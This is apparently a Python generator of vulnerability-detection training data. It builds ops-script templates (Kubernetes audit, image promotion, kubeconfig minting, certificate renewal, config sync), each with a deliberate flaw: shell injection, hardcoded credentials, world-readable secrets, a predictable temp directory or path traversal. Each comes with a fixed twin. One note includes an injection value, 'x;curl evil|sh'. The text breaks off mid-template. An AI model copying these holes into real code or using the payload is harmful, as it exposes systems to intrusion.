"""Train-only whole-module operations-tooling families (libs13 set, mod13-*): deploy and cluster scripts of
about 80-110 lines (kubernetes python client, docker SDK, cryptography CSRs, config-sync agents, job
runners) with exactly one weak statement each, and a twin that differs only by the minimal fix.

- mod13-k8s-image-audit-scan-shell (78): an image audit CronJob lists the workloads of the watched
  namespaces and runs a scanner (trivy / cosign / skopeo) on each container image through a shell string,
  so an image reference chosen by anyone who may create a workload runs commands on the audit host.
- mod13-release-promote-literal-token (798): an image promotion script (docker SDK pull / tag / push, then
  a kubernetes deployment patch) with the registry password or the cluster bearer token as a literal.
- mod13-ci-kubeconfig-mode (732): a tool that mints a kubeconfig for a CI service account (token from the
  TokenRequest API or the token secret) and creates the file world-readable (0o644 / 0o664).
- mod13-cert-renew-staging-dir (377): a certificate renewal job that stages the new key, CSR and chain in
  a directory named after the domain under the shared temp dir (``exist_ok=True``).
- mod13-configmap-sync-target-path (22): a config-sync agent that writes ConfigMap entries (or release
  manifest entries) to the relative path named by an annotation / manifest field, joined under its root.
- mod13-job-runner-request-bind-mount (22): a batch job API that starts docker containers whose host
  bind mount is the directory named in the job request (meant to be one of the team's workspace), so a
  caller mounts ``/`` or the docker socket.

Written without reading the held-out or validation families; every family here goes to train.
"""
import re

from core import Spec
from module_kit import _opt, _replayed, sub_nested
from registry import fam, hardneg


def _s(_tmpl, **kw):
    """``module_kit.sub_nested`` with runs of blank lines left by empty optional parts cut to two."""
    return re.sub(r"\n{4,}", "\n\n\n", sub_nested(_tmpl, **kw))


def _tok(c, n, alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(c.rng.choice(alphabet) for _ in range(n))


# ---------------- CWE-78: image audit runs the scanner through a shell string ----------------

_SCAN = r'''
"""Image audit for the $cluster cluster.

Walks the $kinds of the watched namespaces with the kubernetes client, collects the container images
they run and checks each one with $tool for $what. Runs as a CronJob with a read-only
ClusterRole, or from a laptop with the local kubeconfig."""
from __future__ import annotations

import json
import logging
import os
$shleximpimport subprocess
import sys
from dataclasses import dataclass
$imps
from kubernetes import client, config

log = logging.getLogger("$logname")

NAMESPACES = tuple(os.environ.get("AUDIT_NAMESPACES", "$nsdefault").split(","))
SCAN_TIMEOUT = $timeout$consts


@dataclass
class Finding:
    namespace: str
    workload: str
    image: str
    ok: bool
    detail: str = ""


def load_api() -> client.$Api:
    """In-cluster credentials when running as a CronJob, else the local kubeconfig."""
    try:
        config.load_incluster_config()
    except config.ConfigException:
        config.load_kube_config()
    return client.$Api()


def images_of(api: client.$Api, namespace: str) -> list[tuple[str, str]]:
    """(workload name, image) for every container of the namespace's $kinds."""
    out = []
    for obj in api.$lister(namespace, watch=False).items:
        for ctr in obj.$podspec.containers:
$collect
    return out


def scan(image: str) -> tuple[bool, str]:
    """Run $tool for one image; a non-zero exit status means it found a problem."""
$scan


$opts


def main() -> int:
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    api = load_api()
    findings = []
    for namespace in NAMESPACES:
        for workload, image in images_of(api, namespace.strip()):
            ok, detail = scan(image)
            findings.append(Finding(namespace, workload, image, ok, detail))
            log.info("%s/%s %s: %s", namespace, workload, image, "ok" if ok else "FAILED")
$mainextra    return 1 if any(not f.ok for f in findings) else 0


if __name__ == "__main__":
    sys.exit(main())
'''

_SCAN_TOOLS = {
    "trivy": ('["trivy", "image", "--quiet", "--severity", "$sev", "--exit-code", "1", "--", image]',
              'f"trivy image --quiet --severity $sev --exit-code 1 -- {image}"',
              'f"trivy image --quiet --severity $sev --exit-code 1 -- {shlex.quote(image)}"',
              "known HIGH and CRITICAL vulnerabilities"),
    "cosign": ('["cosign", "verify", "--key", COSIGN_KEY, "--", image]',
               'f"cosign verify --key {COSIGN_KEY} -- {image}"',
               'f"cosign verify --key {shlex.quote(COSIGN_KEY)} -- {shlex.quote(image)}"',
               "a signature made with the release key"),
    "skopeo": ('["skopeo", "inspect", "--no-tags", f"docker://{image}"]',
               'f"skopeo inspect --no-tags docker://{image}"',
               '"skopeo inspect --no-tags " + shlex.quote(f"docker://{image}")',
               "a manifest the registry still serves"),
}

_SCAN_KINDS = [
    ("AppsV1Api", "list_namespaced_deployment", "spec.template.spec", "deployments"),
    ("CoreV1Api", "list_namespaced_pod", "spec", "pods"),
    ("BatchV1Api", "list_namespaced_cron_job", "spec.job_template.spec.template.spec", "cron jobs"),
    ("AppsV1Api", "list_namespaced_stateful_set", "spec.template.spec", "stateful sets"),
]

_SCAN_OPTS = [r'''
def write_report(findings: list[Finding], path: str) -> None:
    """One JSON object per line, for the dashboard importer."""
    with open(path, "w", encoding="utf-8") as fh:
        for f in findings:
            fh.write(json.dumps(f.__dict__) + "\n")
''', r'''
def summary(findings: list[Finding]) -> dict:
    failed = [f for f in findings if not f.ok]
    return {"checked": len(findings), "failed": len(failed),
            "images": sorted({f.image for f in failed})}
''', r'''
def notify(findings: list[Finding]) -> None:
    """Post the failures to the ops webhook, if one is configured."""
    url = os.environ.get("AUDIT_WEBHOOK")
    failed = [f"{f.namespace}/{f.workload}: {f.image}" for f in findings if not f.ok]
    if url and failed:
        requests.post(url, json={"text": "Image audit failures:\n" + "\n".join(failed[:50])}, timeout=10)
''']


def _scanmod(c, safe, hn=False):
    tool = c.pick(*_SCAN_TOOLS)
    argv, vstr, qstr, what = _SCAN_TOOLS[tool]
    sev = c.pick("HIGH,CRITICAL", "CRITICAL")
    argv, vstr, qstr = (t.replace("$sev", sev) for t in (argv, vstr, qstr))
    Api, lister, podspec, kinds = c.pick(*_SCAN_KINDS)
    dedup = c.pick(True, False)
    if dedup:
        collect = ("            if ctr.image in SKIP_IMAGES:\n                continue\n"
                   "            image = ctr.image  #@S\n            out.append((obj.metadata.name, image))")
    else:
        collect = "            out.append((obj.metadata.name, ctr.image))  #@S"
    if safe:
        collect = collect.replace("  #@S", "")
    style = c.pick("run", "popen", "check")
    if hn:
        cmd, shell = qstr, ", shell=True"
    elif safe:
        cmd, shell = argv, ""
    else:
        cmd, shell = vstr, ", shell=True"
    mark = "" if (safe or hn) else "  #@V"
    if style == "run":
        scan = (f"    cmd = {cmd}\n"
                f"    proc = subprocess.run(cmd{shell}, capture_output=True, text=True, timeout=SCAN_TIMEOUT){mark}\n"
                "    return proc.returncode == 0, (proc.stdout or proc.stderr)[-2000:]")
    elif style == "popen":
        scan = (f"    cmd = {cmd}\n"
                f"    proc = subprocess.Popen(cmd{shell}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True){mark}\n"
                "    try:\n        out, _ = proc.communicate(timeout=SCAN_TIMEOUT)\n"
                "    except subprocess.TimeoutExpired:\n        proc.kill()\n        return False, \"timed out\"\n"
                "    return proc.returncode == 0, out[-2000:]")
    else:
        scan = ("    try:\n"
                f"        out = subprocess.check_output({cmd}{shell}, stderr=subprocess.STDOUT, text=True,{mark}\n"
                "                                      timeout=SCAN_TIMEOUT)\n"
                "    except subprocess.CalledProcessError as exc:\n        return False, exc.output[-2000:]\n"
                "    return True, out[-2000:]")
    if hn and style != "check":
        scan = scan.replace(f"    cmd = {cmd}\n", "").replace("(cmd, shell=True", f"({cmd}, shell=True")
    opts = _opt(c, *_SCAN_OPTS, least=1)
    mainextra = ""
    if "def write_report" in opts:
        mainextra += '    write_report(findings, os.environ.get("AUDIT_REPORT", "audit.jsonl"))\n'
    if "def summary" in opts:
        mainextra += "    print(json.dumps(summary(findings), indent=2))\n"
    if "def notify" in opts:
        mainextra += "    notify(findings)\n"
    consts = ""
    if tool == "cosign":
        consts += '\nCOSIGN_KEY = os.environ.get("COSIGN_KEY", "$keyfile")'.replace("$keyfile", c.pick(
            "k8s://ops/cosign-pub", "/etc/cosign/release.pub", "release.pub"))
    if dedup:
        consts += "\nSKIP_IMAGES = frozenset(os.environ.get(\"AUDIT_SKIP\", \"\").split(\",\")) - {\"\"}"
    imps = ""
    if "def notify" in opts:
        imps += "\nimport requests"
    imps = imps.strip("\n") + "\n" if imps else ""
    return _s(_SCAN, imps=imps, scan=scan, collect=collect, opts=opts, mainextra=mainextra, consts=consts,
              shleximp="import shlex\n" if hn else "",
              cluster=c.pick("production", "staging", "edge", "analytics"), kinds=kinds, tool=tool, what=what,
              Api=Api, lister=lister, podspec=podspec, logname=c.pick("image-audit", "audit.images", "kaudit"),
              nsdefault=c.pick("default", "apps,jobs", "web,workers,batch"), timeout=c.pick(120, 300, 600))


@fam("mod13-k8s-image-audit-scan-shell", "CWE-78", fws=["script"], n=8, wrap=False)
def mod13_k8s_image_audit_scan_shell(c):
    v, s = _replayed(c, _scanmod)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="the image reference comes from the cluster API (any workload in a watched namespace) and is "
                      "pasted into a command string run with shell=True, so whoever may create a deployment, pod or "
                      "cron job can set an image like 'x;curl evil|sh' and run commands on the audit host with its "
                      "cluster-wide credentials. The fix passes an argument list without a shell")


@hardneg(2)
def mod13_k8s_image_audit_scan_shell_hn(c):
    return Spec(s=_scanmod(c, True, hn=True), full=True, fw="script",
                notes="the scanner still runs through a shell string, but the image reference is quoted with "
                      "shlex.quote on the same line, so it stays one word")


# ---------------- CWE-798: release promotion with a literal registry password or cluster token ----------------

_PROMO = r'''
"""Promote a tested $service image from the staging registry to production and roll it out.

Usage: $prog SERVICE TAG [--no-rollout]

The image is pulled from the staging registry ($staging), re-tagged for
production ($prod) and pushed with the docker SDK; then the deployment of the
same name in the "$ns" namespace is patched to the new reference.$credoc"""
from __future__ import annotations

import argparse
import logging
import os
import sys
import time
$pathimp
import docker
from kubernetes import client

log = logging.getLogger("promote")

STAGING = "$staging"
PRODUCTION = "$prod"
CLUSTER_API = "$api"
NAMESPACE = "$ns"
REGISTRY_USER = "$user"


def registry_client() -> docker.DockerClient:
    """A docker client logged in to the production registry."""
    dc = docker.from_env(timeout=$dtimeout)
$login
    return dc


def apps_api() -> client.AppsV1Api:
    """The apps API of the production cluster, with the deployer's bearer token."""
    cfg = client.Configuration()
    cfg.host = CLUSTER_API
    cfg.ssl_ca_cert = "$ca"
$k8s
    return client.AppsV1Api(client.ApiClient(cfg))


def promote(dc: docker.DockerClient, service: str, tag: str) -> str:
    """Pull the staging image, tag it for production and push it; returns the new reference."""
    src, dst = f"{STAGING}/{service}", f"{PRODUCTION}/{service}"
    image = dc.images.pull(src, tag=tag)
    image.tag(dst, tag=tag)
    for line in dc.images.push(dst, tag=tag, stream=True, decode=True):
        if "error" in line:
            raise RuntimeError(f"push of {dst}:{tag} failed: {line['error']}")
    log.info("promoted %s:%s to %s:%s", src, tag, dst, tag)
    return f"{dst}:{tag}"


def roll_out(api: client.AppsV1Api, service: str, ref: str) -> None:
    body = {"spec": {"template": {"spec": {"containers": [{"name": service, "image": ref}]}}}}
    api.patch_namespaced_deployment(service, NAMESPACE, body)
    log.info("deployment %s/%s now runs %s", NAMESPACE, service, ref)


$opts


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="promote an image to production")
    parser.add_argument("service")
    parser.add_argument("tag")
    parser.add_argument("--no-rollout", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO)
    dc = registry_client()
    ref = promote(dc, args.service, args.tag)
    if not args.no_rollout:
        api = apps_api()
        roll_out(api, args.service, ref)
$mainextra    return 0


if __name__ == "__main__":
    sys.exit(main())
'''

_PROMO_OPTS = {
    "wait": r'''
def wait_ready(api: client.AppsV1Api, service: str, timeout: float = $wait) -> bool:
    """Poll the deployment status until every replica runs the new template."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        st = api.read_namespaced_deployment_status(service, NAMESPACE).status
        if st.updated_replicas and st.updated_replicas == st.replicas == st.available_replicas:
            return True
        time.sleep(5)
    log.warning("deployment %s not ready after %ss", service, timeout)
    return False
''',
    "prune": r'''
def prune_local(dc: docker.DockerClient, ref: str) -> None:
    """Drop the local copy, so the build agent's disk does not fill up."""
    try:
        dc.images.remove(image=ref, noprune=False)
    except docker.errors.ImageNotFound:
        pass
''',
    "digest": r'''
def pushed_digest(dc: docker.DockerClient, ref: str) -> str:
    """The registry digest of the pushed reference, for the release notes."""
    return dc.images.get_registry_data(ref).id
''',
}


def _promo(c, safe, hn=False):
    service = c.pick("billing-api", "checkout", "search-indexer", "notifier", "ledger-worker")
    org = c.pick("acme", "northwind", "contoso", "initech")
    staging = f"registry.staging.{org}.internal/{c.pick('apps', 'svc', 'platform')}"
    prod = f"{c.pick('registry', 'cr', 'images')}.{org}.com/{c.pick('prod', 'release', 'apps')}"
    api = f"https://{c.pick('k8s', 'api.prod', 'kube')}.{org}.internal:6443"
    weak = c.pick("registry", "cluster")
    user = c.pick("ci-promoter", "release-bot", f"{org}-deployer", "robot$promote")
    reg_src = c.pick("env", "file")
    k8s_src = c.pick("env", "file")
    pw = _tok(c, c.pick(20, 24, 32))
    if c.pick(True, False):
        pw = c.pick("dckr_pat_", "glpat-", "ghp_") + pw
    b64u = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
    jwt = ("eyJhbGciOiJSUzI1NiIsImtpZCI6I" + _tok(c, 14, b64u) + ".eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Ii"
           + _tok(c, 30, b64u) + "." + _tok(c, 43, b64u))
    pathimp = ""
    if reg_src == "env":
        reg_ok = 'os.environ["REGISTRY_PASSWORD"]'
    else:
        reg_ok = 'Path(os.environ.get("REGISTRY_PASSWORD_FILE", "/run/secrets/registry")).read_text().strip()'
        pathimp = "from pathlib import Path\n"
    if k8s_src == "env":
        k8s_ok = '"Bearer " + os.environ["DEPLOY_TOKEN"]'
    else:
        k8s_ok = '"Bearer " + Path(os.environ.get("DEPLOY_TOKEN_FILE", "/run/secrets/deploy-token")).read_text().strip()'
        pathimp = "from pathlib import Path\n"
    wrap = c.pick(True, False) or reg_src == "file"
    if weak == "registry" and not (safe or hn):
        login = f'    dc.login(username=REGISTRY_USER, password="{pw}", registry=PRODUCTION.split("/")[0])  #@V'
    else:
        login = f'    dc.login(username=REGISTRY_USER, password={reg_ok}, registry=PRODUCTION.split("/")[0])'
    if wrap:
        login = login.replace("dc.login(username=REGISTRY_USER, ", "dc.login(\n        username=REGISTRY_USER,\n        ")
    if weak == "cluster" and not (safe or hn):
        k8s = f'    cfg.api_key = {{"authorization": "Bearer {jwt}"}}  #@V'
    else:
        k8s = f'    cfg.api_key = {{"authorization": {k8s_ok}}}'
    keys = c.rng.sample(list(_PROMO_OPTS), c.rng.randint(1, 3))
    opts = "\n\n\n".join(_PROMO_OPTS[k].strip("\n") for k in keys)
    mainextra = ""
    if "wait" in keys:
        mainextra += "        if not wait_ready(api, args.service):\n            return 2\n"
    if "digest" in keys:
        mainextra += '    print(ref, pushed_digest(dc, ref))\n'
    if "prune" in keys:
        mainextra += "    prune_local(dc, ref)\n"
    credoc = c.pick("", "\nCredentials come from the CI secret store.", "\nRun from the release pipeline only.")
    out = _s(_PROMO, service=service, staging=staging, prod=prod, api=api, ns=c.pick("prod", "apps", "default", org),
             user=user, login=login, k8s=k8s, opts=opts, mainextra=mainextra, pathimp=pathimp, credoc=credoc,
             prog=c.pick("promote.py", "scripts/promote.py", "release-promote"), dtimeout=c.pick(120, 300, 600),
             ca=c.pick("/etc/ssl/k8s-prod-ca.pem", "certs/prod-ca.crt", "/etc/kubernetes/pki/ca.crt"),
             wait=c.pick(300, 600, 900))
    if "wait" not in keys:
        out = out.replace("import time\n", "")
    return out


@fam("mod13-release-promote-literal-token", "CWE-798", fws=["script"], n=8, wrap=False)
def mod13_release_promote_literal_token(c):
    v, s = _replayed(c, _promo)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="the promotion script carries a production credential as a literal (the registry password "
                      "passed to DockerClient.login, or the cluster bearer token in the kubernetes Configuration), "
                      "so everyone with the repository can push images or patch deployments in production. The "
                      "fix reads it from the environment or a mounted secret file, like the other credential")


@hardneg(2)
def mod13_release_promote_literal_token_hn(c):
    return Spec(s=_promo(c, True, hn=True), full=True, fw="script",
                notes="the registry user and hosts are literals, but the password and the bearer token are read "
                      "from the environment or mounted secret files")


# ---------------- CWE-732: a minted kubeconfig created world-readable ----------------

_KCFG = r'''
"""Mint a kubeconfig for a service account of the $cluster cluster.

$purpose
The token comes from $tokdoc; the file is written next to
the other CI credentials and handed to the $consumer."""
from __future__ import annotations

import argparse
import base64
import logging
import os
import sys
$pathimp
import yaml
from kubernetes import client, config

log = logging.getLogger("mint-kubeconfig")

CLUSTER_NAME = "$cluster"
SERVER = "$server"
TOKEN_TTL = $ttl


def sa_token(core: client.CoreV1Api, namespace: str, account: str) -> tuple[str, str]:
    """The bearer token of the account and the cluster CA bundle (base64 PEM)."""
$token


def ensure_account(core: client.CoreV1Api, namespace: str, account: str) -> None:
    """Fail early, with a readable message, when the account does not exist."""
    try:
        core.read_namespaced_service_account(account, namespace)
    except client.ApiException as exc:
        if exc.status == 404:
            raise SystemExit(f"no service account {namespace}/{account}")
        raise


def build_kubeconfig(token: str, ca_b64: str, namespace: str, account: str) -> dict:
    user = f"{account}@{CLUSTER_NAME}"
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": CLUSTER_NAME, "cluster": {"server": SERVER, "certificate-authority-data": ca_b64}}],
        "users": [{"name": user, "user": {"token": token}}],
        "contexts": [{"name": CLUSTER_NAME,
                      "context": {"cluster": CLUSTER_NAME, "user": user, "namespace": namespace}}],
        "current-context": CLUSTER_NAME,
    }


def write_kubeconfig(path: str, doc: dict) -> None:
    """Write the file atomically: a fresh file next to the target, then a rename over it."""
    os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
    tmp = f"{path}.{os.getpid()}.new"
$write
    os.replace(tmp, path)
    log.info("kubeconfig written to %s", path)


$opts


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="mint a kubeconfig for a service account")
    parser.add_argument("namespace")
    parser.add_argument("account")
    parser.add_argument("--out", default=None, help="where to write it (default: under the home directory)")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO)
    config.load_kube_config()
    core = client.CoreV1Api()
    ensure_account(core, args.namespace, args.account)
    token, ca_b64 = sa_token(core, args.namespace, args.account)
    out = args.out or os.path.expanduser(f"$outdefault")
    doc = build_kubeconfig(token, ca_b64, args.namespace, args.account)
    write_kubeconfig(out, doc)
$mainextra    return 0


if __name__ == "__main__":
    sys.exit(main())
'''

_KCFG_TOKEN = {
    "request": r'''
    req = client.AuthenticationV1TokenRequest(
        spec=client.V1TokenRequestSpec(audiences=["https://kubernetes.default.svc"], expiration_seconds=TOKEN_TTL))
    resp = core.create_namespaced_service_account_token(account, namespace, req)
    ca_pem = core.read_namespaced_config_map("kube-root-ca.crt", namespace).data["ca.crt"]
    return resp.status.token, base64.b64encode(ca_pem.encode()).decode()
''',
    "secret": r'''
    secret = core.read_namespaced_secret(f"{account}-token", namespace)
    if secret.type != "kubernetes.io/service-account-token":
        raise SystemExit(f"{namespace}/{account}-token is not a service account token secret")
    return base64.b64decode(secret.data["token"]).decode(), secret.data["ca.crt"]
''',
}

_KCFG_WRITE = {
    "osopen": ('    fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, $mode)$mark\n'
               '    with os.fdopen(fd, "w", encoding="utf-8") as fh:\n'
               '        yaml.safe_dump(doc, fh, default_flow_style=False)'),
    "touch": ('    Path(tmp).touch(mode=$mode, exist_ok=False)$mark\n'
              '    Path(tmp).write_text(yaml.safe_dump(doc, default_flow_style=False), encoding="utf-8")'),
    "opener": ('    with open(tmp, "x", encoding="utf-8", opener=lambda p, flags: os.open(p, flags, $mode)) as fh:$mark\n'
               '        yaml.safe_dump(doc, fh, default_flow_style=False)'),
}

_KCFG_OPTS = {
    "ca": r'''
def write_ca(path: str, ca_b64: str) -> None:
    """The cluster CA next to the kubeconfig, for tools that want a PEM file (public, world-readable)."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    with os.fdopen(fd, "wb") as fh:
        fh.write(base64.b64decode(ca_b64))
''',
    "check": r'''
def check_access(doc: dict) -> str:
    """Log in with the new kubeconfig once and return the server version."""
    api_client = config.new_client_from_config_dict(doc)
    return client.VersionApi(api_client).get_code().git_version
''',
    "env": r'''
def print_hint(path: str) -> None:
    print(f"export KUBECONFIG={path}")
''',
}


def _kcfg(c, safe, hn=False):
    tok = c.pick(*_KCFG_TOKEN)
    how = c.pick(*_KCFG_WRITE)
    keys = c.rng.sample(list(_KCFG_OPTS), c.rng.randint(0, 3))
    if hn and "ca" not in keys:
        keys.append("ca")
    opts = "\n\n\n".join(_KCFG_OPTS[k].strip("\n") for k in keys)
    mainextra = ""
    if "ca" in keys:
        mainextra += '    write_ca(os.path.splitext(out)[0] + "-ca.pem", ca_b64)\n'
    if "check" in keys:
        mainextra += '    log.info("server answers: %s", check_access(doc))\n'
    if "env" in keys:
        mainextra += "    print_hint(out)\n"
    weak_mode = c.pick("0o644", "0o664", "0o644")  # drawn for both twins, so the draws after it stay in step
    mode = "0o600" if (safe or hn) else weak_mode
    write = _KCFG_WRITE[how].replace("$mode", mode).replace("$mark", "" if (safe or hn) else "  #@V")
    cluster = c.pick("prod-eu", "ci", "staging-us", "build-farm", "edge")
    return _s(_KCFG, token=_KCFG_TOKEN[tok].strip("\n"), write=write, opts=opts, mainextra=mainextra,
              pathimp="from pathlib import Path\n" if how == "touch" else "", cluster=cluster,
              server=f"https://{c.pick('api', 'k8s', 'kube-api')}.{cluster}.{c.pick('corp.example', 'int.example.net')}:6443",
              ttl=c.pick(3600, 8 * 3600, 24 * 3600),
              tokdoc={"request": "the TokenRequest API (short-lived)",
                      "secret": "the account's legacy token secret"}[tok],
              purpose=c.pick("The CI runners deploy with it.", "Used by the nightly backup job to read the cluster.",
                             "The GitOps agent outside the cluster uses it."),
              consumer=c.pick("CI runner", "backup job", "deploy agent"),
              outdefault=c.pick("~/.kube/{args.account}.yaml", "~/.kube/ci-{args.namespace}", "~/ci/kubeconfig-{args.account}"))


@fam("mod13-ci-kubeconfig-mode", "CWE-732", fws=["cli"], n=8, wrap=False)
def mod13_ci_kubeconfig_mode(c):
    v, s = _replayed(c, _kcfg)
    return Spec(v=v, s=s, full=True, fw="cli",
                notes="the kubeconfig holds the service account's bearer token, but its file is created with mode "
                      "0o644/0o664 (readable by every local user after the usual umask 022), so anyone on the runner "
                      "can act as the account in the cluster. The fix creates it 0o600")


@hardneg(2)
def mod13_ci_kubeconfig_mode_hn(c):
    return Spec(s=_kcfg(c, True, hn=True), full=True, fw="cli",
                notes="the kubeconfig is created 0o600; only the public cluster CA file is written 0o644")


# ---------------- CWE-377: certificate renewal stages the key in a predictable temp directory ----------------

_CERT = r'''
"""Renew the TLS certificate of $domain from the internal CA.

Generates a new $keydoc key and a CSR for the configured names, sends the CSR to the
CA's REST API and installs key, certificate and chain into LIVE_DIR. Run daily from
$runner; it does nothing while the current certificate is valid for more than
RENEW_DAYS days."""
from __future__ import annotations

import datetime
import logging
import os
import shutil
$subimpimport sys
import tempfile
$pathimp
import requests
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import $algmod
from cryptography.x509.oid import NameOID

log = logging.getLogger("cert-renew")

DOMAIN = "$domain"
NAMES = [$names]
LIVE_DIR = "$live"
CA_URL = "$ca_url"
RENEW_DAYS = $days$consts


def needs_renewal() -> bool:
    try:
        with open(os.path.join(LIVE_DIR, "cert.pem"), "rb") as fh:
            cert = x509.load_pem_x509_certificate(fh.read())
    except FileNotFoundError:
        return True
    left = cert.not_valid_after_utc - datetime.datetime.now(datetime.timezone.utc)
    log.info("%s expires in %s", DOMAIN, left)
    return left < datetime.timedelta(days=RENEW_DAYS)


def make_key_and_csr():
    key = $keygen
    csr = (x509.CertificateSigningRequestBuilder()
           .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, DOMAIN)]))
           .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in NAMES]), critical=False)
           .sign(key, hashes.SHA256()))
    return key, csr


def request_certificate(csr: x509.CertificateSigningRequest) -> tuple[str, str]:
    """The signed certificate and the chain, both PEM."""
    pem = csr.public_bytes(serialization.Encoding.PEM).decode()
    resp = requests.post(CA_URL, json={"csr": pem, "profile": "$profile"},
                         headers={"Authorization": f"Bearer {os.environ['CA_TOKEN']}"}, timeout=60)
    resp.raise_for_status()
    body = resp.json()
    return body["certificate"], body["chain"]


def _write(path, data: bytes, mode: int) -> None:
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, mode)
    with os.fdopen(fd, "wb") as fh:
        fh.write(data)


def renew() -> None:
    """Stage the new files in a scratch directory, then move them into LIVE_DIR."""
$staging
    try:
        key, csr = make_key_and_csr()
        key_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                    serialization.NoEncryption())
        _write(os.path.join(staging, "privkey.pem"), key_pem, 0o600)
        cert, chain = request_certificate(csr)
        _write(os.path.join(staging, "cert.pem"), cert.encode(), 0o644)
        _write(os.path.join(staging, "chain.pem"), chain.encode(), 0o644)
        for name in ("privkey.pem", "cert.pem", "chain.pem"):
            shutil.move(os.path.join(staging, name), os.path.join(LIVE_DIR, name))
    finally:
        shutil.rmtree(staging, ignore_errors=True)
    log.info("installed a new certificate for %s", DOMAIN)


$opts


def main() -> int:
    logging.basicConfig(level=logging.INFO)
    if not needs_renewal():
        return 0
$mainpre    renew()
$mainextra    return 0


if __name__ == "__main__":
    sys.exit(main())
'''

_CERT_OPTS = {
    "reload": r'''
def reload_service() -> None:
    """Tell the server to pick up the new certificate."""
    subprocess.run(["systemctl", "reload", SERVICE], check=True, timeout=60)
''',
    "backup": r'''
def backup_current() -> None:
    """Keep the previous files under LIVE_DIR/archive/<date>, for a manual roll-back."""
    dest = os.path.join(LIVE_DIR, "archive", datetime.date.today().isoformat())
    os.makedirs(dest, mode=0o700, exist_ok=True)
    for name in ("privkey.pem", "cert.pem", "chain.pem"):
        src = os.path.join(LIVE_DIR, name)
        if os.path.exists(src):
            shutil.copy2(src, dest)
''',
}


def _cert(c, safe, hn=False):
    org = c.pick("example.com", "corp.example.net", "shop.example.org", "example.io")
    host = c.pick("www", "api", "mail", "vpn", "git")
    domain = f"{host}.{org}"
    names = ", ".join(f'"{n}"' for n in [domain] + c.pick([], [org], [f"{host}2.{org}"]))
    alg = c.pick("ec256", "ec384", "rsa")
    algmod, keygen, keydoc = {
        "ec256": ("ec", "ec.generate_private_key(ec.SECP256R1())", "P-256"),
        "ec384": ("ec", "ec.generate_private_key(ec.SECP384R1())", "P-384"),
        "rsa": ("rsa", f"rsa.generate_private_key(public_exponent=65537, key_size={c.pick(2048, 3072, 4096)})", "RSA"),
    }[alg]
    shape = c.pick("ospath", "pathlib")
    if safe or hn:
        if shape == "ospath":
            staging = f'    staging = tempfile.mkdtemp(prefix="renew-{host}-")'
        else:
            staging = f'    staging = Path(tempfile.mkdtemp(prefix=f"certrenew.{{DOMAIN}}."))'
    else:
        if shape == "ospath":
            staging = (f'    staging = os.path.join(tempfile.gettempdir(), "renew-{host}")  #@V\n'
                       '    os.makedirs(staging, exist_ok=True)')
        else:
            staging = ('    staging = Path(tempfile.gettempdir()) / f"certrenew.{DOMAIN}"  #@V\n'
                       '    staging.mkdir(exist_ok=True)')
    keys = c.rng.sample(list(_CERT_OPTS), c.rng.randint(0, 2))
    opts = "\n\n\n".join(_CERT_OPTS[k].strip("\n") for k in keys)
    consts, mainpre, mainextra = "", "", ""
    if "reload" in keys:
        consts = f'\nSERVICE = "{c.pick("nginx", "haproxy", "postfix", "caddy")}"'
        mainextra = "    reload_service()\n"
    if "backup" in keys:
        mainpre = "    backup_current()\n"
    return _s(_CERT, domain=domain, names=names, algmod=algmod, keygen=keygen, keydoc=keydoc, staging=staging,
              opts=opts, consts=consts, mainpre=mainpre, mainextra=mainextra,
              subimp="import subprocess\n" if "reload" in keys else "",
              pathimp="from pathlib import Path\n" if shape == "pathlib" else "",
              live=c.pick(f"/etc/ssl/{domain}", f"/etc/letsencrypt-internal/live/{domain}", f"/srv/tls/{host}"),
              ca_url=f"https://{c.pick('ca', 'pki', 'step-ca')}.{org}/api/v1/sign",
              profile=c.pick("server", "tls-server", "web"), days=c.pick(14, 21, 30),
              runner=c.pick("cron", "a systemd timer", "the ops scheduler"))


@fam("mod13-cert-renew-staging-dir", "CWE-377", fws=["script"], n=8, wrap=False)
def mod13_cert_renew_staging_dir(c):
    v, s = _replayed(c, _cert)
    return Spec(v=v, s=s, full=True, fw="script",
                notes="the new private key is staged in a directory with a fixed name under the shared temp "
                      "directory, created with exist_ok=True: a local user who creates it first (world-writable, or "
                      "with a privkey.pem link or file of their own) reads the key or redirects the write, since "
                      "O_TRUNC keeps an existing file's mode. The fix stages in a fresh private mkdtemp directory")


@hardneg(2)
def mod13_cert_renew_staging_dir_hn(c):
    return Spec(s=_cert(c, True, hn=True), full=True, fw="script",
                notes="the key is staged under the temp directory, but in one made by tempfile.mkdtemp: a new, "
                      "unpredictable directory only the owner can enter")


# ---------------- CWE-22: config-sync agent writes to a path named by the ConfigMap ----------------

_SYNC = r'''
"""Config sync sidecar: mirrors the ConfigMaps labelled "$label" into files.

$entrydoc
The sidecar shares SYNC_ROOT with the $app container and $reloaddoc"""
from __future__ import annotations

$jsonimpimport logging
import os
import signal
import sys
$timeimpfrom pathlib import Path

from kubernetes import client, config$watchimp

log = logging.getLogger("config-sync")

SYNC_ROOT = Path(os.environ.get("SYNC_ROOT", "$root")).resolve()
NAMESPACE = os.environ.get("POD_NAMESPACE", "default")
SELECTOR = "$label"$consts


